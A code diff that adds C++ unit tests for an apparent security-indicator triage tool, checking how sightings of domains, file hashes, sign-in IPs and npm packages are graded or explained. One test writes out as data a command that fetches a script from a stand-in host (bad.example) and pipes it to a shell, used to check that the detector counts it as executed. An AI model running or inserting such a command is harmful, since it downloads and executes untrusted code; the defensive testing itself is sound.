@@ -94,6 +94,18 @@ TEST(Lookup, ThatResolvedCountsAsAnAttemptWhereNobodyWatchedConnections) {
   expect_counts(scene.finding(), Grade::attempted);
 }
 
+TEST(Lookup, IsOfTheHostThatHadTheAddressThen) {
+  const auto judged = [](std::string_view leased, std::string_view holder) {
+    Scene scene(ValueType::domain, "bad.example");
+    scene.device(ordinary()).device(analyst()).sighting(lookup("10.1.0.7", "203.0.113.9"), {Attribute::query_hostname});
+    scene.scan.inventory.add_leases({{"10.1.0.7", std::string(holder), at(leased)}});
+    return scene.finding().device;
+  };
+  EXPECT_EQ(judged("2030-05-10T08:00:00Z", "lab-1.lighthouse.example"), "lab-1");
+  EXPECT_EQ(judged("2030-05-10T08:00:00Z", "phone-of-kim"), "phone-of-kim");
+  EXPECT_EQ(judged("2030-05-10T13:00:00Z", "lab-1"), "desk-7");
+}
+
 TEST(Lookup, IsNotExplainedByASourceThatDoesNotKnowTheDevice) {
   const auto judged = [](std::string_view watched) {
     Scene scene(ValueType::domain, "bad.example");
@@ -459,6 +471,39 @@ TEST(File, ThatStartedAnotherProgramHasRun) {
   expect_counts(scene.finding(), Grade::executed);
 }
 
+TEST(Launch, KnownByItsCommandLineAloneIsJudgedByTheFirstWord) {
+  struct Row {
+    std::string_view command;
+    Grade grade;
+  };
+  for (const Row& row : {Row{"sh -c curl -s https://bad.example/p/init.sh | sh", Grade::executed},
+                         Row{R"("C:\Program Files\Git\curl.exe" https://bad.example/a b)", Grade::executed},
+                         Row{"say https://bad.example/curl", Grade::mentioned}}) {
+    Scene scene(ValueType::domain, "bad.example");
+    auto event = event_of(EventClass::process_activity, noon,
+                          {{Attribute::device_hostname, "desk-7"}, {Attribute::process_cmd_line, row.command}});
+    scene.file("auditd").sighting(std::move(event), {Attribute::process_cmd_line});
+    EXPECT_EQ(scene.finding().grade, row.grade) << row.command;
+  }
+}
+
+TEST(File, ThatIsALibraryRunsInTheProgramThatLoadsIt) {
+  const auto opened = [](std::string_view path, std::string_view by) {
+    Scene scene(ValueType::sha256, std::string(64, 'a'));
+    auto event = event_of(EventClass::file_activity, noon,
+                          {{Attribute::device_hostname, "desk-7"},
+                           {Attribute::file_path, path},
+                           {Attribute::file_sha256, std::string(64, 'a')}});
+    if (!by.empty()) event.add(Attribute::actor_process_path, by);
+    event.activity = model::activity::file_open;
+    scene.file("windows_events").sighting(std::move(event), {Attribute::file_sha256});
+    return scene.finding().grade;
+  };
+  EXPECT_EQ(opened(R"(C:\Phone\codec.DLL)", R"(C:\Phone\phone.exe)"), Grade::executed);
+  EXPECT_EQ(opened(R"(C:\Phone\codec.zip)", R"(C:\Phone\phone.exe)"), Grade::attempted);
+  EXPECT_EQ(opened("/usr/lib/codec.so", ""), Grade::attempted);
+}
+
 TEST(Blocked, ByAControlIsExplained) {
   Scene scene(ValueType::domain, "bad.example");
   auto event = event_of(
@@ -503,6 +548,28 @@ TEST(SharedExit, ExplainsAnOrdinarySignInOnly) {
   }
 }
 
+TEST(SharedExit, TakesASecondFactorFromARecordOfTheSameSession) {
+  const auto in_session = [](std::string_view ip, std::string_view mfa, std::string_view session) {
+    auto event = event_of(EventClass::authentication, noon,
+                          {{Attribute::src_ip, ip},
+                           {Attribute::actor_user_name, "kim"},
+                           {Attribute::client_os, "macOS"},
+                           {Attribute::user_agent, "Safari"},
+                           {Attribute::correlation_uid, session}});
+    if (!mfa.empty()) event.add(Attribute::is_mfa, mfa);
+    event.status = model::Status::success;
+    return event;
+  };
+  for (const std::string_view session : {"session-1", "session-2"}) {
+    Scene scene(ValueType::ipv4, "203.0.113.9");
+    scene.file("okta_system_log")
+        .sighting(in_session("203.0.113.9", "", "session-1"), {Attribute::src_ip})
+        .around(ValueType::account, "kim", in_session("203.0.113.9", "true", session))
+        .around(ValueType::account, "kim", in_session("198.51.100.1", "", "session-0"));
+    EXPECT_EQ(scene.finding().status == FindingStatus::explained, session == "session-1") << session;
+  }
+}
+
 TEST(SharedExit, TakesTheInventorysWordForWhoseDeviceItIs) {
   for (const std::string_view user : {"kim", "lou"}) {
     Scene scene(ValueType::ipv4, "203.0.113.9");
@@ -543,6 +610,28 @@ TEST(Package, PlaceholderIsHarmlessAndAnotherVersionIsNot) {
   Scene real(ValueType::package, "left-pod");
   real.file("npm_lock").sighting(lock("1.4.2"), {Attribute::package_name});
   expect_counts(real.finding(), Grade::mentioned);
+}
+
+TEST(Package, OfAVersionThatWasNotPublishedIsNotMeant) {
+  struct Row {
+    std::string_view note, version;
+    bool explained;
+  };
+  for (const Row& row : {Row{"2.4.1 (npm)", "2.4.0", true}, Row{"2.4.1 (npm)", "2.4.1", false},
+                         Row{"versions 2.4.1, v2.4.2.", "2.4.2", false}, Row{"versions 2.4.1, v2.4.2.", "2.5.0", true},
+                         Row{"2.4.1 and earlier", "2.4.0", false}, Row{"<2.4.1", "2.4.0", false},
+                         Row{"", "2.4.0", false}, Row{"malicious package", "2.4.0", false}}) {
+    Scene scene(ValueType::package, "left-pod");
+    scene.indicators[0].note = row.note;
+    scene.file("npm_lock")
+        .sighting(event_of(EventClass::other, "",
+                           {{Attribute::package_name, "other-pod"},
+                            {Attribute::package_version, "2.4.1"},
+                            {Attribute::package_name, "left-pod"},
+                            {Attribute::package_version, row.version}}),
+                  {Attribute::package_name});
+    EXPECT_EQ(scene.finding().rule == "package-other-version", row.explained) << row.note << " | " << row.version;
+  }
 }
 
 TEST(Package, NamedInABuildLogIsNotInstalled) {
